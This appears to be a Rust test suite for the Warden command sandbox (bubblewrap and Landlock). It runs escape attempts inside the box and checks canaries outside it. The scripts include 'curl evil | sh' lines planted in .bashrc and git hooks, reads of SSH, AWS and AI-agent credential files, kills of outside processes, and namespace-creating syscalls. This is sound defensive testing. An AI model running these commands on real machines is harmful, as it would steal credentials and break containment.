//! The escape suite: real commands through the box, in temporary trees, with canaries and listeners
//! outside it. Each attempt must fail, and what is outside proves it did (the canary unchanged, the
//! listener never reached, the process alive); ordinary work inside the project must still succeed.
//! Every case runs in every box (`bubblewrap`, `landlock`: `case::bubblewrap`, `case::landlock`),
//! each in a child process of this test binary with `WARDEN_SANDBOX` forcing that box; a case the
//! Landlock fallback cannot meet is ignored there with the reason. On a machine where a box cannot
//! run, its tests fail with the reason: CI installs bubblewrap and has Landlock.
#![cfg(target_os = "linux")]
// Test code: a failed unwrap is a failed test.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use tempfile::TempDir;
use warden_core::containment::{self, BoxPolicy, Mechanism, MECHANISM_ENV};

/// `case::bubblewrap` and `case::landlock` for each `case`: the case run in that box.
macro_rules! in_every_box {
    ($($case:ident),* $(,)?) => {$(
        mod $case {
            #[test]
            fn bubblewrap() {
                super::in_box("bwrap", concat!(stringify!($case), "::bubblewrap"), super::$case);
            }
            #[test]
            fn landlock() {
                super::in_box("landlock", concat!(stringify!($case), "::landlock"), super::$case);
            }
        }
    )*};
}

/// A case only bubblewrap can meet; its Landlock test is ignored with `reason` (run it with
/// `--ignored` to see it fail).
macro_rules! only_in_bubblewrap {
    ($case:ident, $reason:literal) => {
        mod $case {
            #[test]
            fn bubblewrap() {
                super::in_box("bwrap", concat!(stringify!($case), "::bubblewrap"), super::$case);
            }
            #[test]
            #[ignore = $reason]
            fn landlock() {
                super::in_box("landlock", concat!(stringify!($case), "::landlock"), super::$case);
            }
        }
    };
}

in_every_box!(wardens_own_folders_are_hidden, secrets_deep_in_the_project_are_hidden, no_capability_survives,);
in_every_box!(
    network_on_goes_through_the_proxy_only,
    host_abstract_sockets_are_unreachable_with_the_network,
    pip_installs_through_the_proxy_from_an_allowed_registry_only,
    npm_ci_installs_through_the_proxy_from_an_allowed_registry_only,
);
in_every_box!(
    work_inside_the_project_is_allowed,
    writes_outside_the_project_are_refused_every_way,
    secrets_are_hidden,
    other_agents_tokens_histories_and_the_x_cookie_are_hidden,
    no_network_not_even_loopback,
    unix_sockets_outside_are_unreachable,
    processes_outside_are_unkillable_and_closed,
    a_daemon_does_not_outlive_its_command,
    escape_syscalls_are_refused,
    build_tools_keep_working_inside,
    a_hidden_location_gone_since_the_box_was_drawn_does_not_stop_it,
);
only_in_bubblewrap!(
    processes_outside_are_invisible,
    "Landlock has no PID namespace: /proc lists every process of the machine"
);
only_in_bubblewrap!(
    git_metadata_cannot_be_moved_aside_and_git_still_works,
    "Landlock cannot pin .git or keep its code-running parts read-only: the rights git needs to \
     create its lock files in .git reach them too"
);
only_in_bubblewrap!(a_read_only_path_never_uncovers_a_hidden_one, "Landlock keeps nothing of .git read-only");
only_in_bubblewrap!(
    git_hooks_and_config_stay_read_only,
    "Landlock cannot keep .git/hooks and .git/config read-only: \
     the rights git needs to create its lock files in .git reach them too"
);

#[path = "containment/network.rs"]
mod network;
use network::{
    a_sessions_boxes_share_one_network_forwarded_to_the_host, a_sessions_network_dies_with_warden_killed,
    docker_desktops_socket_is_out_of_reach_of_a_box_with_the_network,
    host_abstract_sockets_are_unreachable_from_a_sessions_shared_network,
    host_abstract_sockets_are_unreachable_with_the_network, network_on_goes_through_the_proxy_only,
    npm_ci_installs_through_the_proxy_from_an_allowed_registry_only,
    pip_installs_through_the_proxy_from_an_allowed_registry_only,
};
only_in_bubblewrap!(
    a_sessions_boxes_share_one_network_forwarded_to_the_host,
    "Landlock's boxes are in this machine's network, where a server is reached without a forward; \
     with the network on, TCP connects only to the proxy's port, so a later box cannot reach it"
);
only_in_bubblewrap!(
    host_abstract_sockets_are_unreachable_from_a_sessions_shared_network,
    "the Landlock fallback has no session network to join"
);
only_in_bubblewrap!(
    a_sessions_network_dies_with_warden_killed,
    "the Landlock fallback has no session network to keep"
);
only_in_bubblewrap!(
    docker_desktops_socket_is_out_of_reach_of_a_box_with_the_network,
    "Landlock has no rule for connect: a unix socket under a hidden folder is still connectable"
);

#[path = "containment/caches.rs"]
mod caches;
use caches::{
    a_box_joining_the_sessions_network_writes_to_its_layer,
    a_bubblewrap_that_cannot_mount_the_layer_still_runs_the_box_with_read_only_caches,
    a_build_rs_planted_in_a_cache_never_reaches_the_users_cache,
    a_layered_box_keeps_no_capability_and_cannot_mount,
    boxes_of_a_project_started_at_once_each_mount_the_layer, cargo_builds_offline_from_the_users_registry,
    the_cache_layer_is_the_projects_own_and_lasts,
};
in_every_box!(a_build_rs_planted_in_a_cache_never_reaches_the_users_cache);
only_in_bubblewrap!(
    a_bubblewrap_that_cannot_mount_the_layer_still_runs_the_box_with_read_only_caches,
    "the Landlock fallback never has a layer"
);
only_in_bubblewrap!(
    the_cache_layer_is_the_projects_own_and_lasts,
    "the Landlock fallback has no overlay: the caches are read-only there, with no layer"
);
only_in_bubblewrap!(
    cargo_builds_offline_from_the_users_registry,
    "the Landlock fallback has no overlay: the registry is read-only, so cargo cannot unpack a crate \
     that is only downloaded (one already unpacked builds)"
);
only_in_bubblewrap!(
    a_layered_box_keeps_no_capability_and_cannot_mount,
    "the Landlock fallback mounts nothing (no_capability_survives covers its capabilities)"
);
only_in_bubblewrap!(
    boxes_of_a_project_started_at_once_each_mount_the_layer,
    "the Landlock fallback has no layer to mount"
);
only_in_bubblewrap!(
    a_box_joining_the_sessions_network_writes_to_its_layer,
    "the Landlock fallback has no session network and no layer"
);

#[path = "containment/home.rs"]
mod home;
use home::{
    a_cargo_configuration_holding_a_token_stays_out_of_the_box, a_config_folder_outside_the_home_is_hidden,
    a_project_inside_the_home_is_whole, cargo_and_rustup_are_there_and_the_registry_writable,
    git_commits_with_the_identity_of_the_filtered_config, java_toolchains_and_caches_are_there,
    local_bin_runs_and_is_read_only, node_version_managers_are_there_and_the_npm_cache_writable,
    other_users_homes_and_the_system_bus_are_absent,
    paths_the_project_adds_are_read_only_and_never_the_whole_home,
    python_user_site_and_pyenv_are_there_and_the_pip_cache_writable,
    the_git_config_is_there_without_its_credentials, the_go_module_cache_is_there,
    the_home_shows_nothing_but_toolchains, the_session_runtime_folder_is_hidden,
};
in_every_box!(
    the_home_shows_nothing_but_toolchains,
    cargo_and_rustup_are_there_and_the_registry_writable,
    node_version_managers_are_there_and_the_npm_cache_writable,
    python_user_site_and_pyenv_are_there_and_the_pip_cache_writable,
    the_go_module_cache_is_there,
    java_toolchains_and_caches_are_there,
    local_bin_runs_and_is_read_only,
    the_git_config_is_there_without_its_credentials,
    git_commits_with_the_identity_of_the_filtered_config,
    a_project_inside_the_home_is_whole,
    paths_the_project_adds_are_read_only_and_never_the_whole_home,
    a_cargo_configuration_holding_a_token_stays_out_of_the_box,
    other_users_homes_and_the_system_bus_are_absent,
);

/// The session's runtime folder, given to the child as `XDG_RUNTIME_DIR` (one per box: both run at
/// once), where the case puts its canaries.
mod the_session_runtime_folder_is_hidden {
    fn runtime(mechanism: &str) -> String {
        format!("{}/containment-run-user-{mechanism}", env!("CARGO_TARGET_TMPDIR"))
    }
    #[test]
    fn bubblewrap() {
        let test = "the_session_runtime_folder_is_hidden::bubblewrap";
        let vars = [("XDG_RUNTIME_DIR", runtime("bwrap"))];
        super::in_box_with("bwrap", test, super::the_session_runtime_folder_is_hidden, &vars);
    }
    #[test]
    fn landlock() {
        let test = "the_session_runtime_folder_is_hidden::landlock";
        let vars = [("XDG_RUNTIME_DIR", runtime("landlock"))];
        super::in_box_with("landlock", test, super::the_session_runtime_folder_is_hidden, &vars);
    }
}

/// A configuration folder outside the home, given to the child as `XDG_CONFIG_HOME` (one per box).
mod a_config_folder_outside_the_home_is_hidden {
    fn config(mechanism: &str) -> String {
        format!("{}/containment-xdg-config-{mechanism}", env!("CARGO_TARGET_TMPDIR"))
    }
    #[test]
    fn bubblewrap() {
        let test = "a_config_folder_outside_the_home_is_hidden::bubblewrap";
        let vars = [("XDG_CONFIG_HOME", config("bwrap"))];
        super::in_box_with("bwrap", test, super::a_config_folder_outside_the_home_is_hidden, &vars);
    }
    #[test]
    fn landlock() {
        let test = "a_config_folder_outside_the_home_is_hidden::landlock";
        let vars = [("XDG_CONFIG_HOME", config("landlock"))];
        super::in_box_with("landlock", test, super::a_config_folder_outside_the_home_is_hidden, &vars);
    }
}

/// Not a requirement but the fallback's known limit, pinned so a change to it is seen.
mod landlock_limit_beside_a_hidden_file {
    #[test]
    fn landlock() {
        let test = "landlock_limit_beside_a_hidden_file::landlock";
        super::in_box("landlock", test, super::landlock_limit_beside_a_hidden_file);
    }
}

/// Run `case` with the box `mechanism` (a `WARDEN_SANDBOX` value): directly when this process is
/// the child forced into it, else in such a child (this test binary running only `test`).
fn in_box(mechanism: &str, test: &str, case: fn()) {
    in_box_with(mechanism, test, case, &[]);
}

/// [`in_box`] with `vars` in the child's environment.
fn in_box_with(mechanism: &str, test: &str, case: fn(), vars: &[(&str, String)]) {
    if std::env::var(MECHANISM_ENV).as_deref() == Ok(mechanism) {
        return case();
    }
    let exe = std::env::current_exe().expect("test binary");
    let out = Command::new(exe)
        // The case itself decides; `--include-ignored` lets `--ignored` show why a case is ignored.
        .args([test, "--exact", "--include-ignored", "--nocapture", "--test-threads=1"])
        .env(MECHANISM_ENV, mechanism)
        .envs(vars.iter().map(|(name, value)| (name, value)))
        .output()
        .expect("run the test binary");
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert!(out.status.success(), "{test} in {mechanism}:\n{stdout}\n{stderr}");
    assert!(stdout.contains("1 passed"), "{test} did not run in {mechanism}:\n{stdout}");
}

fn is_landlock() -> bool {
    matches!(containment::mechanism(), Mechanism::Landlock { .. })
}

/// A project, a folder outside it with a canary, and a home with secret canaries.
struct Tree {
    _root: TempDir,
    project: PathBuf,
    outside: PathBuf,
    home: PathBuf,
}

const CANARY: &str = "canary: untouched\n";

fn tree() -> Tree {
    // On the real file system, not under /tmp: bubblewrap gives the box a private /tmp, where
    // a home, its secrets and a folder outside the project would be absent for that reason alone.
    let root = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("temp dir");
    let base = std::fs::canonicalize(root.path()).expect("canonical");
    let (project, outside, home) = (base.join("project"), base.join("outside"), base.join("home"));
    for dir in [&project, &outside, &home.join(".ssh"), &home.join(".aws")] {
        std::fs::create_dir_all(dir).expect("mkdir");
    }
    std::fs::write(outside.join("canary"), CANARY).expect("canary");
    std::fs::write(home.join(".ssh/id_ed25519"), "SSH-KEY-CANARY").expect("ssh canary");
    std::fs::write(home.join(".aws/credentials"), "AWS-CANARY").expect("aws canary");
    std::fs::write(home.join(".bashrc"), CANARY).expect("bashrc");
    std::fs::write(project.join(".env"), "API_KEY=ENV-CANARY").expect("env canary");
    std::fs::write(project.join("main.c"), "int main(void) { return 0; }\n").expect("source");
    Tree { _root: root, project, outside, home }
}

impl Tree {
    /// The project's box, its caches' writes in the project's layer ([`Tree::layer`]).
    fn policy(&self) -> BoxPolicy {
        BoxPolicy::with_home(&self.project, Some(&self.home), &[]).with_cache_layer(self.layer())
    }

    /// The project's cache layer, as in Warden's storage for it.
    fn layer(&self) -> PathBuf {
        self.project.with_file_name("storage").join("cache-layer")
    }

    fn canary_intact(&self) -> bool {
        std::fs::read_to_string(self.outside.join("canary")).is_ok_and(|c| c == CANARY)
    }
}

/// The tree for the cases of ordinary work. Under Landlock, without the project's `.env`: a folder
/// with a hidden location anywhere below it gets no file rights of its own, so what a command
/// creates right in it (here the project root) is refused (`landlock_limit_beside_a_hidden_file`
/// pins that down).
fn work_tree() -> Tree {
    let t = tree();
    if is_landlock() {
        std::fs::remove_file(t.project.join(".env")).expect("remove .env");
    }
    t
}

/// Run `script` with `sh -c` inside the box, in the project. With `WARDEN_TEST_UNBOXED=1` the
/// scripts run without the box, to see every escape test fail (the suite can tell a box from none).
fn boxed(policy: &BoxPolicy, script: &str) -> Output {
    boxed_at_home(policy, &home_of(policy), script)
}

/// [`boxed`] with `HOME` set to `home`.
fn boxed_at_home(policy: &BoxPolicy, home: &Path, script: &str) -> Output {
    if std::env::var_os("WARDEN_TEST_UNBOXED").is_some() {
        return std::process::Command::new("sh")
            .args(["-c", script])
            .current_dir(&policy.project)
            .env("HOME", home)
            .output()
            .expect("sh");
    }
    let mechanism = containment::mechanism();
    assert!(mechanism.is_contained(), "commands cannot be contained here: {}", mechanism.describe());
    let argv: Vec<OsString> = ["sh", "-c", script].iter().map(OsString::from).collect();
    let launch = containment::launch(policy, &argv, &policy.project).expect("launch");
    let mut command = launch.command();
    command.env_clear().env("PATH", "/usr/local/bin:/usr/bin:/bin").env("HOME", home);
    let output = command.output().expect("spawn the box");
    drop(launch);
    output
}

fn home_of(policy: &BoxPolicy) -> PathBuf {
    policy.project.parent().map(|p| p.join("home")).unwrap_or_default()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn work_inside_the_project_is_allowed() {
    let t = work_tree();
    let out =
        boxed(&t.policy(), "echo hello > note.txt && mkdir -p a/b && mv note.txt a/b/ && cat a/b/note.txt");
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), "hello\n");
    assert_eq!(std::fs::read_to_string(t.project.join("a/b/note.txt")).ok().as_deref(), Some("hello\n"));
    // bubblewrap's TMPDIR is its private /tmp; Landlock's a fresh folder of the system temp.
    let tmp = boxed(&t.policy(), r#"echo scratch > "$TMPDIR/x" && cat "$TMPDIR/x""#);
    assert_eq!(text(&tmp.stdout), "scratch\n", "a private temp folder: {}", text(&tmp.stderr));
}

fn writes_outside_the_project_are_refused_every_way() {
    let t = tree();
    std::os::unix::fs::symlink(&t.outside, t.project.join("link")).expect("symlink");
    let o = t.outside.display();
    for (how, script) in [
        ("absolute", format!("echo x > {o}/canary")),
        ("relative ..", "echo x > ../outside/canary".to_owned()),
        ("symlink in the project", "echo x > link/canary".to_owned()),
        ("/proc/self/root", format!("echo x > /proc/self/root{o}/canary")),
        ("append", format!("echo x >> {o}/canary")),
        ("delete", format!("rm -f {o}/canary")),
        ("rename away", format!("mv {o}/canary {o}/moved")),
        ("truncate", format!("truncate -s 0 {o}/canary")),
        ("new file outside", format!("touch {o}/new")),
        ("hard link into the project, then write", format!("ln {o}/canary hard && echo x > hard")),
        ("bashrc", format!("echo 'curl evil | sh' >> {}/.bashrc", t.home.display())),
    ] {
        let out = boxed(&t.policy(), &script);
        assert!(t.canary_intact(), "{how}: the canary changed ({})", text(&out.stderr));
        assert!(!t.outside.join("new").exists() && !t.outside.join("moved").exists(), "{how}");
    }
    assert_eq!(std::fs::read_to_string(t.home.join(".bashrc")).ok().as_deref(), Some(CANARY));
}

fn secrets_are_hidden() {
    let t = tree();
    let h = t.home.display();
    let out = boxed(
        &t.policy(),
        &format!("cat {h}/.ssh/id_ed25519 {h}/.aws/credentials .env; ls -a {h}/.ssh {h}/.aws; cat /proc/self/root{h}/.ssh/id_ed25519"),
    );
    let seen = format!("{}{}", text(&out.stdout), text(&out.stderr));
    for canary in ["SSH-KEY-CANARY", "AWS-CANARY", "ENV-CANARY", "id_ed25519\n", "credentials\n"] {
        assert!(!seen.contains(canary), "{canary:?} visible inside the box: {seen}");
    }
    assert!(t.home.join(".ssh/id_ed25519").exists(), "hidden, not deleted");
}

/// The credential stores the red team read from a box, each a canary file under the home.
const MORE_SECRETS: &[&str] = &[
    ".claude/.credentials.json",
    ".codex/auth.json",
    ".config/github-copilot/hosts.json",
    ".cache/huggingface/token",
    ".gem/credentials",
    ".pulumi/credentials.json",
    ".config/rclone/rclone.conf",
    ".s3cfg",
    ".boto",
    ".oci/config",
    ".gradle/gradle.properties",
    ".m2/settings.xml",
    ".config/Code/User/globalStorage/state.vscdb",
    ".Xauthority",
    ".bash_history",
    ".zsh_history",
    ".python_history",
    ".local/share/dev.warden.app/localstorage.sqlite3",
];

fn other_agents_tokens_histories_and_the_x_cookie_are_hidden() {
    let t = tree();
    for (i, relative) in MORE_SECRETS.iter().enumerate() {
        let path = t.home.join(relative);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(&path, format!("STORE-CANARY-{i}")).expect("canary");
    }
    // Listed after the files exist: the box hides what is there when it is drawn.
    let script: String = MORE_SECRETS.iter().map(|r| format!("cat {}/{r}; ", t.home.display())).collect();
    let out = boxed(&t.policy(), &script);
    let seen = text(&out.stdout);
    let visible: Vec<&str> = MORE_SECRETS
        .iter()
        .enumerate()
        .filter(|(i, _)| seen.contains(&format!("STORE-CANARY-{i}")))
        .map(|(_, relative)| *relative)
        .collect();
    assert!(visible.is_empty(), "readable in the box: {visible:?}");
}

/// Warden's own config and data (its settings, the keys' seal, conversations) are hidden from the
/// commands it runs: a command that could read or write them could widen its own permissions.
fn wardens_own_folders_are_hidden() {
    let t = tree();
    let warden = t.home.join(".config/warden");
    std::fs::create_dir_all(&warden).expect("warden dir");
    std::fs::write(warden.join("settings.json"), "WARDEN-SETTINGS-CANARY").expect("canary");
    let policy = BoxPolicy::with_home(&t.project, Some(&t.home), std::slice::from_ref(&warden));
    let out = boxed(
        &policy,
        &format!("cat {0}/settings.json; ls -a {0}; echo x > {0}/settings.json", warden.display()),
    );
    let seen = format!("{}{}", text(&out.stdout), text(&out.stderr));
    assert!(!seen.contains("WARDEN-SETTINGS-CANARY") && !seen.contains("settings.json\n"), "{seen}");
    assert_eq!(
        std::fs::read_to_string(warden.join("settings.json")).ok().as_deref(),
        Some("WARDEN-SETTINGS-CANARY")
    );
}

/// Secret files below the project root, not only at it, are hidden from commands.
fn secrets_deep_in_the_project_are_hidden() {
    let t = work_tree();
    let deep = t.project.join("deploy/keys");
    std::fs::create_dir_all(&deep).expect("mkdir");
    std::fs::write(deep.join("server.pem"), "PEM-CANARY").expect("pem");
    std::fs::create_dir_all(t.project.join("services/api")).expect("mkdir");
    std::fs::write(t.project.join("services/api/.env.production"), "DEEP-ENV-CANARY").expect("env");
    let out = boxed(&t.policy(), "cat deploy/keys/server.pem services/api/.env.production");
    let seen = text(&out.stdout);
    assert!(!seen.contains("PEM-CANARY") && !seen.contains("DEEP-ENV-CANARY"), "{seen}");
}

/// No capability survives into the box, even for a command Warden runs as root.
fn no_capability_survives() {
    let t = work_tree();
    let out = boxed(&t.policy(), "grep -E '^Cap(Eff|Prm|Inh|Amb):' /proc/self/status");
    let seen = text(&out.stdout);
    assert_eq!(seen.lines().count(), 4, "{seen}{}", text(&out.stderr));
    for line in seen.lines() {
        assert!(line.ends_with("0000000000000000"), "a capability survived: {line}");
    }
}

fn no_network_not_even_loopback() {
    let t = tree();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let script = format!(
        "curl -s -m 3 http://127.0.0.1:{port}/ ; \
         (exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null ; \
         python3 -c 'import socket; s=socket.socket(); s.settimeout(3); s.connect((\"127.0.0.1\", {port}))' ; \
         echo done"
    );
    let out = boxed(&t.policy(), &script);
    assert!(text(&out.stdout).contains("done"), "{}", text(&out.stderr));
    assert!(listener.accept().is_err(), "a command reached the loopback listener");
}

fn unix_sockets_outside_are_unreachable() {
    let t = tree();
    let path = t.outside.join("service.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).expect("unix listener");
    listener.set_nonblocking(true).expect("nonblocking");
    let script = format!(
        "python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"{}\")' && echo CONNECTED",
        path.display()
    );
    let out = boxed(&t.policy(), &script);
    assert!(!text(&out.stdout).contains("CONNECTED"), "{}", text(&out.stderr));
    assert!(listener.accept().is_err(), "a command reached a unix socket outside the box");
}

fn processes_outside_are_unkillable_and_closed() {
    let t = tree();
    let mut outside = std::process::Command::new("sleep")
        .arg("30")
        .env("WARDEN_TEST_ENV_CANARY", "ENVIRON-CANARY")
        .spawn()
        .expect("sleep");
    let pid = outside.id();
    let out = boxed(&t.policy(), &format!("kill -9 {pid}; cat /proc/{pid}/environ; cat /proc/{pid}/maps"));
    let seen = format!("{}{}", text(&out.stdout), text(&out.stderr));
    assert!(!seen.contains("ENVIRON-CANARY"), "{seen}");
    assert!(!seen.contains("/sleep"), "its memory map is readable: {seen}");
    std::thread::sleep(Duration::from_millis(100));
    assert!(outside.try_wait().expect("wait").is_none(), "the process outside was killed");
    let _ = outside.kill();
    let _ = outside.wait();
}

fn processes_outside_are_invisible() {
    let t = tree();
    let out = boxed(&t.policy(), "ls /proc | grep -c '^[0-9]'");
    let visible: u32 =
        text(&out.stdout).lines().last().and_then(|l| l.trim().parse().ok()).unwrap_or(u32::MAX);
    assert!(visible <= 4, "{visible} processes visible inside the box: {}", text(&out.stderr));
}

fn git_hooks_and_config_stay_read_only() {
    let t = tree();
    std::fs::create_dir_all(t.project.join(".git/hooks")).expect("hooks");
    std::fs::write(t.project.join(".git/config"), "[core]\n").expect("config");
    let out = boxed(
        &t.policy(),
        "printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit; echo '[core] hooksPath = /tmp' >> .git/config; echo ok > .git/description",
    );
    assert!(!t.project.join(".git/hooks/pre-commit").exists(), "{}", text(&out.stderr));
    assert_eq!(std::fs::read_to_string(t.project.join(".git/config")).ok().as_deref(), Some("[core]\n"));
    assert!(t.project.join(".git/description").exists(), "the rest of .git stays writable");
}

/// The red team's ways around read-only hooks — `.git` renamed and replaced, husky's hooks folder
/// (`core.hooksPath`, git-ignored), `info/` — each fail, and ordinary git work still works.
fn git_metadata_cannot_be_moved_aside_and_git_still_works() {
    let t = tree();
    let git = |args: &[&str]| {
        let out = Command::new("git")
            .args(["-c", "user.email=t@example.test", "-c", "user.name=t"])
            .args(args)
            .current_dir(&t.project)
            .env("HOME", &t.home)
            .output()
            .expect("git");
        assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
    };
    git(&["init", "-q"]);
    git(&["add", "main.c"]);
    git(&["commit", "-qm", "first"]);
    std::fs::create_dir_all(t.project.join(".husky/_")).expect("husky");
    git(&["config", "core.hooksPath", ".husky/_"]);
    std::fs::create_dir_all(t.project.join(".git/info")).expect("info");
    let id = "-c user.email=t@example.test -c user.name=t";
    let out = boxed(
        &t.policy(),
        &format!(
            "mv .git .git-orig; mkdir -p .git-new/hooks; mv .git-new .git; \
             printf '#!/bin/sh\\ntouch PWNED\\n' > .husky/_/pre-commit; chmod +x .husky/_/pre-commit; \
             echo '*.c filter=evil' > .git/info/attributes; \
             git {id} commit --allow-empty -qm second && echo COMMITTED; \
             git {id} checkout -qb feature && echo CHECKED-OUT; \
             echo change > main.c && git {id} stash -q && echo STASHED"
        ),
    );
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert!(t.project.join(".git/HEAD").is_file() && !t.project.join(".git-orig").exists(), "{stderr}");
    assert!(!t.project.join(".husky/_/pre-commit").exists(), "husky's hooks folder was writable: {stderr}");
    assert!(!t.project.join(".git/info/attributes").exists(), "{stderr}");
    assert!(!t.project.join("PWNED").exists(), "a hook ran");
    for done in ["COMMITTED", "CHECKED-OUT", "STASHED"] {
        assert!(stdout.contains(done), "{done} missing: {stdout}{stderr}");
    }
}

/// A project can name its own read-only paths: `.git/hooks` as a link to the home's `.ssh` (a
/// downloaded archive can hold one), or `core.hooksPath` naming a folder outside the project. The
/// box must still start (bubblewrap refused to bind a link's target over a hidden folder, so
/// every command of such a project failed) and the secrets stay covered.
fn a_read_only_path_never_uncovers_a_hidden_one() {
    let t = tree();
    std::fs::create_dir_all(t.project.join(".git")).expect("git");
    std::os::unix::fs::symlink(t.home.join(".ssh"), t.project.join(".git/hooks")).expect("link");
    std::fs::write(
        t.project.join(".git/config"),
        format!("[core]\n\thooksPath = {}\n", t.home.join(".aws").display()),
    )
    .expect("config");
    let h = t.home.display();
    let out = boxed(
        &t.policy(),
        &format!("echo ran; cat .git/hooks/id_ed25519 {h}/.ssh/id_ed25519 {h}/.aws/credentials"),
    );
    let seen = format!("{}{}", text(&out.stdout), text(&out.stderr));
    assert!(text(&out.stdout).starts_with("ran\n"), "the box did not start: {seen}");
    assert!(!seen.contains("SSH-KEY-CANARY") && !seen.contains("AWS-CANARY"), "{seen}");
}

/// A session draws its box once; a hidden folder or file removed since (another user's home, a
/// project's `.env` a command deleted) must not keep the next command from starting.
fn a_hidden_location_gone_since_the_box_was_drawn_does_not_stop_it() {
    let t = tree();
    let (folder, file) = (t.outside.join("gone-folder"), t.project.join(".env.gone"));
    std::fs::create_dir_all(&folder).expect("folder");
    std::fs::write(&file, "SECRET=1").expect("file");
    let mut policy = t.policy();
    policy.hidden.extend([folder.clone(), file.clone()]);
    std::fs::remove_dir(&folder).expect("rmdir");
    std::fs::remove_file(&file).expect("rm");
    let out = boxed(&policy, "echo started");
    assert_eq!(text(&out.stdout).trim(), "started", "{}", text(&out.stderr));
    assert!(!file.exists(), "a mount point was left in the project: {}", file.display());
}

fn a_daemon_does_not_outlive_its_command() {
    let t = tree();
    let marker = t.project.join("daemon-was-here");
    let out = boxed(
        &t.policy(),
        &format!(
            "setsid sh -c 'sleep 1; touch {}' >/dev/null 2>&1 < /dev/null & echo started",
            marker.display()
        ),
    );
    assert_eq!(text(&out.stdout), "started\n", "{}", text(&out.stderr));
    std::thread::sleep(Duration::from_secs(3));
    assert!(!marker.exists(), "a process started by the command ran on after it ended");
}

fn escape_syscalls_are_refused() {
    let t = tree();
    // A new user namespace by each of the three system calls that make one: unshare(2), clone(2)
    // with CLONE_NEWUSER (a child that got through prints "clone 0") and clone3(2); and unshare(2)
    // again through the x32 ABI.
    let script = "unshare -Ur true 2>&1 && echo UNSHARED; \
                  python3 -c 'import ctypes; l=ctypes.CDLL(None); print(\"ptrace\", l.ptrace(16, 1, 0, 0))'; \
                  python3 -c 'import ctypes, os; l=ctypes.CDLL(None, use_errno=True); \
                  r=l.syscall(56, 0x10000000 | 17, 0, 0, 0, 0); print(\"clone\", r, ctypes.get_errno()); \
                  r == 0 and os._exit(0); print(\"clone3\", l.syscall(435, 0, 0), ctypes.get_errno()); \
                  print(\"x32\", l.syscall(0x40000000 | 272, 0x10000000), ctypes.get_errno())'";
    let out = boxed(&t.policy(), script);
    let seen = text(&out.stdout);
    assert!(!seen.contains("UNSHARED"), "{seen}");
    assert!(
        seen.contains(&format!("clone -1 {}", nix::libc::EPERM)),
        "clone(CLONE_NEWUSER) was not refused: {seen}"
    );
    assert!(!seen.contains("clone 0"), "{seen}");
    assert!(seen.contains(&format!("clone3 -1 {}", nix::libc::ENOSYS)), "clone3 was not refused: {seen}");
    // unshare(CLONE_NEWUSER) by its x32 number: refused by the box (EPERM), not left to the kernel
    // (which runs it where x32 is enabled, and says ENOSYS where it is not).
    assert!(
        seen.contains(&format!("x32 -1 {}", nix::libc::EPERM)),
        "an x32 call got past the filter: {seen}"
    );
    assert!(seen.contains("ptrace -1"), "ptrace(PTRACE_ATTACH) succeeded: {seen} {}", text(&out.stderr));
}

fn build_tools_keep_working_inside() {
    let t = work_tree();
    let out = boxed(
        &t.policy(),
        "set -e; cc -o main main.c && ./main; python3 -c 'print(6*7)'; git init -q repo && cd repo && \
         git -c user.name=w -c user.email=w@x commit -q --allow-empty -m one && git status --short && \
         git log --oneline | wc -l",
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), "42\n1\n");
    assert!(Path::new(&t.project.join("main")).exists());
}

fn landlock_limit_beside_a_hidden_file() {
    let t = tree();
    std::fs::create_dir_all(t.project.join("src")).expect("mkdir");
    std::fs::create_dir_all(t.project.join("deploy")).expect("mkdir");
    std::fs::write(t.project.join("deploy/.env.production"), "PROD-CANARY").expect("deep secret");
    let out = boxed(
        &t.policy(),
        "echo edited > main.c; echo new > new.txt; mkdir made; echo deeper > src/new.rs; \
         echo beside > deploy/new; cat .env deploy/.env.production",
    );
    let read = |p: &str| std::fs::read_to_string(t.project.join(p)).ok();
    assert_eq!(read("main.c").as_deref(), Some("edited\n"), "{}", text(&out.stderr));
    assert_eq!(read("src/new.rs").as_deref(), Some("deeper\n"), "a folder without secrets is whole");
    for refused in ["new.txt", "made", "deploy/new"] {
        assert!(!t.project.join(refused).exists(), "{refused} was created beside a hidden file");
    }
    let seen = text(&out.stdout);
    assert!(!seen.contains("ENV-CANARY") && !seen.contains("PROD-CANARY"), "{seen}");
}
